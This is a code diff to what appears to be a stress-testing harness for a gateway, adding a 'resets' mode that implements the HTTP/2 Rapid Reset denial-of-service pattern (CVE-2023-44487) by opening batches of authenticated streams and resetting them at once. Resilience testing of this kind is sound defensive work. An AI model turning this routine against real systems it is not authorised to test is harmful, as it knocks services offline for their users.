@@ -27,7 +27,7 @@ from storage import keys
 if TYPE_CHECKING:
     from collections.abc import Callable, Coroutine
 
-KINDS = ("spin", "batches", "streams", "logins", "http", "all")
+KINDS = ("spin", "batches", "streams", "resets", "logins", "http", "all")
 SERVER = "abuser"
 NICE = 10  # a real one would not use the gateway's cores; this one takes what is left of them
 SPIN_S = 0.01  # how often one that only spins looks at the clock
@@ -139,6 +139,23 @@ async def open_streams(target: Target, end_s: float, key: Callable[[], str], wha
     connection.close()
 
 
+async def reset_streams(target: Target, end_s: float) -> None:
+    """Open streams and drop them without waiting for anything (CVE-2023-44487)."""
+    while time.monotonic() < end_s:
+        connection = await connect(target, lambda _stream, _data: None, lambda _stream: None)
+        while time.monotonic() < end_s and not connection.failure:
+            opened = [
+                connection.open(STREAM, authorization=f"Bearer {target.key}")
+                for _ in range(OPENING_EACH)
+            ]
+            for stream in opened:
+                connection.reset(stream)
+            target.done["streams reset"] += len(opened)
+            await asyncio.sleep(0)
+        target.done["connections that the gateway closed"] += bool(connection.failure)
+        connection.close()
+
+
 async def ask(target: Target, end_s: float, key: Callable[[], str], what: str) -> None:
     """Read and post over a kept connection, one request after the other."""
     now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
@@ -190,6 +207,8 @@ def jobs(kind: str, target: Target, end_s: float) -> list[Coroutine[None, None, 
         case "streams":
             own = own_key(target)
             return [open_streams(target, end_s, own, "streams") for _ in range(CONNECTIONS)]
+        case "resets":
+            return [reset_streams(target, end_s) for _ in range(CONNECTIONS)]
         case "logins":
             return [
                 *(
@@ -207,7 +226,7 @@ def jobs(kind: str, target: Target, end_s: float) -> list[Coroutine[None, None, 
         case _:
             return [
                 job
-                for each in ("batches", "streams", "logins", "http")
+                for each in ("batches", "streams", "resets", "logins", "http")
                 for job in jobs(each, target, end_s)
             ]
 
